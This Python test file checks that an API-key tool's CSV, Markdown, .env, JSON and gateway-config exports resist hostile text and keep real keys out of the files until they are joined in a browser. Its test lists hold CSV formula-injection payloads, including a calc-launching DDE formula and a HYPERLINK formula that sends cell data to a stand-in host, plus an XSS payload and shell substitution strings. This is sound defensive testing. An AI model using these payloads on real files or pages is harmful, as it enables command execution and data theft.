"""Files to take along: what each format holds, that no stranger's text does anything there, and that keys are joined
to them in the browser alone."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from playwright.sync_api import sync_playwright

from probes import exports, report
from probes.evidence import Finding
from probes.report import Examined, Reported
from tests.cases import CATALOGUE, finding
from tests.pages import CHROMIUM

JOIN = Path(__file__).resolve().parent.parent / "static" / "join.js"
CONFIGS = ("litellm", "new-api", "gpt-load")

# What makes a spreadsheet calculate, as measured (first after anything invisible), and what such cells try to do.
FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "%1", "|1", ";=1", "\t=1", "\r=1", "\n=1", "\0=1", " =1", "\u00a0=1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u200b=1", "\ufeff=1"),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("https://relay.example/?"&A1,"x")', "x;=1+1", "\u202e=1"),
]
HOSTILE = [
    *FORMULAS,
    "a|b||c",
    "``a` `b",
    "`",
    "<img src=x onerror=alert(1)>",
    "[here](https://relay.example/)",
    "![x](https://relay.example/x.png) https://relay.example www.relay.example",
    "a\nb\r\n# c\n| d | e |",
    "quote \" and ' and \\ and $HOME $(id)",
    "TESTKEY-KEY-1",
    '"TESTKEY-KEY-1"',
    "https://relay.example/?`TESTKEY-KEY-1`",
    "\u202egnp.exe",
    "密钥 🔑 ключ",
]


def fact(metric: str, value: Any, unit: str | None = None) -> dict[str, Any]:
    return {"metric": metric, "value": value, "unit": unit, "state": "confirmed", "read_from": "body"}


def reported(*found: Finding, number: int = 1, provider: str = "openai", base_url: str = "", **more: Any) -> Reported:
    given: dict[str, Any] = {
        "line": number,
        "label": "sk-…0000",
        "state": "done",
        "candidates": [],
        "distinctive": True,
    }
    key = Examined(
        number=number,
        provider=provider,
        base_url=base_url,
        key_destroyed_at=None,
        findings=list(found) or [finding("active", models=["gpt-4o-mini", "gpt-4o"])],
        **given | more,
    )
    return report.report(CATALOGUE, key)


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def markdown(text: str) -> list[dict[str, str]]:
    """The rows of a table, read as GitHub's Markdown does: cells first, then what is in a code span."""
    head, _line, *rows = ([c.strip() for c in re.split(r"(?<!\\)\|", line)[1:-1]] for line in text.splitlines())
    return [dict(zip(head, map(without_span, cells), strict=True)) for cells in rows]


def without_span(cell: str) -> str:
    cell = cell.replace(r"\|", "|")
    fence = re.match("`*", cell)[0]  # type: ignore[index]
    if not fence:
        return cell
    assert cell.endswith(fence)
    assert fence not in re.findall("`+", cell[len(fence) : -len(fence)]), "the span ends early"
    inner = cell[len(fence) : -len(fence)]
    return inner[1:-1] if inner[0] == inner[-1] == " " else inner


def sourced(text: str) -> dict[str, str]:
    """What a shell has after it has read the file, of the names that the file sets."""
    names = re.findall(r"^(\w+)=", text, re.M)
    shown = "; ".join(f'printf "%s\\0" "${name}"' for name in names)
    ran = subprocess.run(["/bin/sh", "-c", f"{text}\n{shown}"], capture_output=True, check=True, env={}, text=True)
    assert not ran.stderr
    return dict(zip(names, ran.stdout.split("\0"), strict=False))


PARSERS: dict[str, Callable[[str], Any]] = {
    "csv": table,
    "markdown": markdown,
    "env": sourced,
    "litellm": lambda text: yaml.safe_load(text)["model_list"],
    "json": lambda text: json.loads(text)["detections"],
    "new-api": json.loads,
    "gpt-load": json.loads,
}


def parsed(format: str, *reports: Reported) -> Any:
    return PARSERS[format](exports.write(format, list(reports)))


# Every format


def test_every_format_is_read_back() -> None:
    assert set(PARSERS) == set(exports.FORMATS)


@pytest.mark.parametrize("format", exports.FORMATS)
def test_a_file_of_no_keys_is_a_whole_file(format: str) -> None:
    assert len(parsed(format)) == 0


@pytest.mark.parametrize("format", exports.FORMATS)
def test_each_key_stands_as_its_placeholder_in_quotes_of_the_format(format: str) -> None:
    text = exports.write(format, [reported(number=7), reported(number=12)])
    assert set(re.findall(r"""(["'`])TESTKEY-KEY-(\d+)\1""", text)) >= {(text[text.index("TESTKEY-KEY-7") - 1], "7")}
    assert set(re.findall(r"TESTKEY-KEY-(\d+)", text)) == {"7", "12"}


@pytest.mark.parametrize("format", exports.FORMATS)
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_breaks_no_file_and_takes_no_key(format: str, text: str) -> None:
    evil = finding(
        "active", text, models=[text, "gpt-4o"], evidence=[fact("balance_total", "1.00", text)], message=text
    )
    written = exports.write(format, [reported(evil, label=text), reported(number=2)])
    assert len(PARSERS[format](written)) >= 1
    places = len(re.findall(r"""["'`]TESTKEY-KEY-1\b""", written))
    harmless = exports.write(format, [reported(finding("active", models=["x", "gpt-4o"])), reported(number=2)])
    assert places == len(re.findall(r"""["'`]TESTKEY-KEY-1\b""", harmless))


@pytest.mark.parametrize("format", exports.FORMATS)
def test_a_thousand_keys_stand_in_one_file(format: str) -> None:
    text = exports.write(format, [reported(number=n) for n in range(1, 1001)])
    assert len(set(re.findall(r"TESTKEY-KEY-(\d+)\b", text))) == 1000


# Tables


def test_a_row_says_what_was_found_in_words_for_programs() -> None:
    facts = [fact("balance_total", "-1.50", "USD"), fact("requests_limit", 60, "requests"), fact("plan", "pro")]
    [row] = parsed("csv", reported(finding("active", evidence=facts, models=["gpt-4o", "x"], pays=True), number=3))
    assert list(row) == list(exports.COLUMNS)
    assert row == {
        **{"number": "3", "line": "3", "label": "sk-…0000", "key": "TESTKEY-KEY-3", "provider": "openai"},
        **{"gateway": "", "origin": "https://api.openai.com", "identity": "proven", "verdict": "active"},
        **{"cause": row["cause"], "ability_to_pay": "yes", "balance": "-1.50", "balance_unit": "USD"},
        **{"limits": "requests_limit 60 requests", "models_visible": "2", "models_covered": row["models_covered"]},
        **{"next_action": row["next_action"], "requests": "1"},
    }
    assert row["next_action"] in {"top-up", "fill-pricing", "set-route", "import-inventory", "add-provider-config"}


def test_a_balance_is_what_is_left_and_never_what_was_given() -> None:
    given, left = fact("balance_granted", "50.00", "USD"), fact("limit_remaining", 18830000, "quota units")
    assert balance_of(given) == ("", "")
    assert balance_of(given, left) == ("18830000", "quota units")
    assert balance_of(left, fact("balance_total", "3.00", "USD")) == ("3.00", "USD")


def balance_of(*facts: dict[str, Any]) -> tuple[str, str]:
    [row] = parsed("csv", reported(finding("active", evidence=list(facts))))
    return row["balance"], row["balance_unit"]


def test_csv_is_quoted_and_ends_its_lines_as_the_standard_says() -> None:
    lines = exports.write("csv", [reported()]).split("\r\n")
    assert len(lines) == 3
    assert all(line.startswith('"') and line.endswith('"') for line in lines[:2])


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_as_a_formula(text: str) -> None:
    evil = finding("restricted", text, evidence=[fact("balance_total", "1.00", text)])
    written = exports.write("csv", [reported(evil, label=text)])
    for row in (table(written)[0], next(csv.DictReader(io.StringIO(written), delimiter=";"))):
        for cell in row.values():
            assert not (cell or "").strip('" ').startswith(tuple("=+-@%|;＝＋－＠\t\r\n\0")), cell


@pytest.mark.parametrize("format", ["csv", "markdown"])
def test_letters_of_every_script_come_through(format: str) -> None:
    assert parsed(format, reported(label="密钥 🔑 ключ"))[0]["label"] == "密钥 🔑 ключ"


@pytest.mark.parametrize("text", ["a|b||c", "``a` `b", "`", "<b>", "[x](https://relay.example)", r"\| `|`"])
def test_a_markdown_cell_shows_what_was_said_and_does_nothing(text: str) -> None:
    assert parsed("markdown", reported(label=text))[0]["label"] == text


# JSON and .env


def test_json_holds_the_public_detections_as_they_are() -> None:
    one = reported(number=4)
    assert parsed("json", one) == [{"key": "TESTKEY-KEY-4", **json.loads(json.dumps(one.json))}]


def test_a_variable_keeps_the_name_that_it_came_with_and_no_two_share_one() -> None:
    labels = ["OPENAI_API_KEY", "openai_api_key", "sk-…0000", "line 4"]
    found = parsed("env", *(reported(number=n, label=label) for n, label in enumerate(labels, 1)))
    assert list(found) == ["OPENAI_API_KEY", "OPENAI_API_KEY_2", "OPENAI_API_KEY_3", "OPENAI_API_KEY_4"]
    assert all(re.fullmatch("[A-Z_][A-Z0-9_]*", name) for name in found)


def test_a_base_url_stands_beside_its_key() -> None:
    found = parsed("env", reported(label="MY_TOKEN", base_url="https://relay.example/v1"))
    assert found == {"MY_TOKEN": "TESTKEY-KEY-1", "MY_TOKEN_BASE_URL": "https://relay.example/v1"}


def test_a_program_that_reads_the_usual_names_sends_no_key_to_anothers_address() -> None:
    relay = reported(number=2, base_url="https://relay.example/v1")
    assert parsed("env", reported(label="OPENAI_API_KEY"), relay) == {
        "OPENAI_API_KEY": "TESTKEY-KEY-1",
        "OPENAI_API_KEY_2": "TESTKEY-KEY-2",
        "OPENAI_BASE_URL_2": "https://relay.example/v1",
    }
    assert parsed("env", relay) == {"OPENAI_API_KEY": "TESTKEY-KEY-2", "OPENAI_BASE_URL": "https://relay.example/v1"}


# Configurations


@pytest.mark.parametrize("format", CONFIGS)
def test_what_was_sent_nowhere_is_in_no_configuration(format: str) -> None:
    waiting = reported(number=1, state="needs_choice", provider="")
    unsent = report.report(CATALOGUE, Examined(2, 2, "x", "done", [], True, "openai", "", None, []))
    assert len(parsed(format, waiting, unsent)) == 0


def test_litellm_gets_a_route_for_each_covered_model_that_the_key_sees() -> None:
    [one] = parsed("litellm", reported(finding("active", models=["gpt-4o-mini", "of-nobody"])))
    assert one == {
        "model_name": "gpt-4o-mini",
        "litellm_params": {
            "model": "openai/gpt-4o-mini",
            "api_base": "https://api.openai.com/v1",
            "api_key": "TESTKEY-KEY-1",
        },
    }


def test_litellm_gets_one_wildcard_where_models_are_unknown_or_too_many() -> None:
    rich = max((p for p in CATALOGUE.providers.values() if p.origins), key=lambda p: len(p.models))
    many = reported(finding("active", models=[m.id for m in rich.models]), provider=rich.slug)
    assert len(many.json["models"]["covered"]) > report.MAX_ROUTES
    for key in (many, reported(finding("active"))):
        [route] = parsed("litellm", key)
        assert route["model_name"] == route["litellm_params"]["model"]
        assert route["model_name"].endswith("/*")


def test_a_protocol_whose_clients_add_the_version_gets_an_address_without_it() -> None:
    call = "GET https://api.anthropic.com/v1/models?limit=1000"
    key = reported(finding("active", call=call, models=["x"]), provider="anthropic")
    assert parsed("litellm", key)[0]["litellm_params"]["api_base"] == "https://api.anthropic.com"
    assert parsed("new-api", key)[0]["channel"]["type"] == 14


def test_a_call_is_routed_to_the_region_that_listed_the_models() -> None:
    key = reported(finding("active", call="GET https://eu.relay.example/x/v1/models (without the key)", models=["x"]))
    assert report.api_base(key) == "https://eu.relay.example/x/v1"


def test_every_provider_has_an_address_that_is_no_model_list() -> None:
    for provider in (p for p in CATALOGUE.providers.values() if p.origins):
        base = report.api_base(reported(finding("active", call="GET x", models=None), provider=provider.slug))
        assert "models" not in base.partition("://")[2].partition("/")[2], provider.slug


def test_new_api_gets_a_channel_for_each_key() -> None:
    [one] = parsed("new-api", reported(finding("active", models=["gpt-4o", "gpt-4o-mini", "x"]), number=5))
    assert one["mode"] == "single"
    assert one["channel"] == {
        **{"type": 1, "name": "5 sk-…0000", "key": "TESTKEY-KEY-5", "base_url": "https://api.openai.com"},
        **{"models": one["channel"]["models"], "group": "default"},
    }
    assert set(one["channel"]["models"].split(",")) == {"gpt-4o", "gpt-4o-mini"}


def test_new_api_gets_what_else_is_visible_where_no_model_is_covered() -> None:
    [one] = parsed("new-api", reported(finding("active", models=["of-a-relay", "two,in one", "TESTKEY-KEY-1"])))
    assert one["channel"]["models"] == "of-a-relay,TESTKEY KEY 1"


def test_an_address_with_a_path_of_its_own_is_given_to_new_api_whole() -> None:
    key = reported(finding("active", call="GET https://relay.example/paas/v4/models", models=["x"]))
    [one] = parsed("new-api", key)
    assert (one["channel"]["type"], one["channel"]["base_url"]) == (8, "https://relay.example/paas/v4/chat/completions")
    [group] = parsed("gpt-load", key)
    assert group["group"]["upstreams"] == [{"url": "https://relay.example/paas/v4", "weight": 1}]
    assert group["group"]["validation_endpoint"] == "/chat/completions"


def test_gpt_load_gets_a_group_for_each_address_with_its_keys() -> None:
    relay = finding("active", call="GET https://relay.example/v1/models", models=["gpt-x"])
    found = parsed(
        "gpt-load", reported(), reported(relay, number=2, base_url="https://relay.example"), reported(number=3)
    )
    assert [group["keys"] for group in found] == [["TESTKEY-KEY-1", "TESTKEY-KEY-3"], ["TESTKEY-KEY-2"]]
    assert found[0]["group"] == {
        "name": "api-openai-com",
        "display_name": "api.openai.com",
        "channel_type": "openai",
        "upstreams": [{"url": "https://api.openai.com", "weight": 1}],
        "test_model": found[0]["group"]["test_model"],
    }
    assert found[1]["group"]["test_model"] == "gpt-x"


def test_a_key_that_speaks_no_known_protocol_goes_to_no_gateway_that_asks_for_one() -> None:
    own = reported(
        finding("active", call="GET https://api.elevenlabs.io/v1/models", models=["x"]), provider="elevenlabs"
    )
    assert parsed("new-api", own) == parsed("gpt-load", own) == []


# Joining in the browser

KEYS = {
    1: "sk-TestKeyJoin0000000000000000plain",
    2: "=1+1\"TestKeyJoin\\0000'`|`$HOME$(id)<b>",
    3: "+TestKeyJoin0000$&$1$`",
    4: "TestKeyJoin''0000\\'",
    5: '"TESTKEY-KEY-1"',
    6: "`TestKeyJoin0000`",
    7: "a|TestKeyJoin\\|0000",
}


@pytest.fixture(scope="module")
def join() -> Iterator[Callable[[str, str, dict[int, str]], str]]:
    """static/join.js in a real browser."""
    if not CHROMIUM and not os.environ.get("CI"):
        pytest.skip("no Chromium on this machine: nothing was joined")
    if not CHROMIUM:
        pytest.fail("CI has no Chromium: joining keys may not go untried there", pytrace=False)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        page = browser.new_page()
        page.add_script_tag(content=JOIN.read_text(encoding="utf-8"))
        code = "([text, format, keys]) => testkey.join(text, format, new Map(keys))"
        yield lambda text, format, keys: page.evaluate(code, [text, format, [[n, key] for n, key in keys.items()]])
        browser.close()


def keys_in(format: str, found: Any) -> list[str]:
    """The keys of a parsed file, in order."""
    if format == "env":
        return list(found.values())
    if format == "gpt-load":
        return [key for group in found for key in group["keys"]]
    where = {"litellm": lambda e: e["litellm_params"]["api_key"], "new-api": lambda e: e["channel"]["key"]}
    return [where.get(format, lambda e: e["key"])(entry) for entry in found]


@pytest.mark.parametrize("format", exports.FORMATS)
def test_every_key_is_joined_whole_whatever_characters_it_has(join: Any, format: str) -> None:
    reports = [reported(finding("active", models=["gpt-4o"]), number=n) for n in KEYS]
    joined = join(exports.write(format, reports), format, KEYS)
    found = keys_in(format, PARSERS[format](joined))
    if format == "csv":
        assert [key[:1] for key in found if key.lstrip("'")[:1] in "=+-@"] == ["'", "'"]
        found = [key.removeprefix("'") for key in found]
    assert found == list(KEYS.values())


@pytest.mark.parametrize("format", exports.FORMATS)
def test_a_placeholder_without_a_key_stays(join: Any, format: str) -> None:
    text = exports.write(format, [reported(number=1), reported(number=11)])
    assert join(text, format, {}) == text
    joined = join(text, format, {1: KEYS[1]})
    assert "TESTKEY-KEY-11" in joined
    assert not re.search(r"TESTKEY-KEY-1\b", joined)


@pytest.mark.parametrize("format", exports.FORMATS)
def test_a_key_is_joined_to_no_place_that_a_stranger_chose(join: Any, format: str) -> None:
    text = "https://relay.example/?\"TESTKEY-KEY-1\" 'TESTKEY-KEY-1' `TESTKEY-KEY-1` TESTKEY-KEY-1"
    evil = finding("active", text, models=[text, "gpt-4o"], evidence=[fact("plan", text)], message=text)
    harmless = finding("active", models=["x", "gpt-4o"])
    count = [
        join(exports.write(format, [reported(f, label=label)]), format, KEYS).count(KEYS[1])
        for f, label in ((evil, text), (harmless, "x"))
    ]
    assert count[0] == count[1] == 1
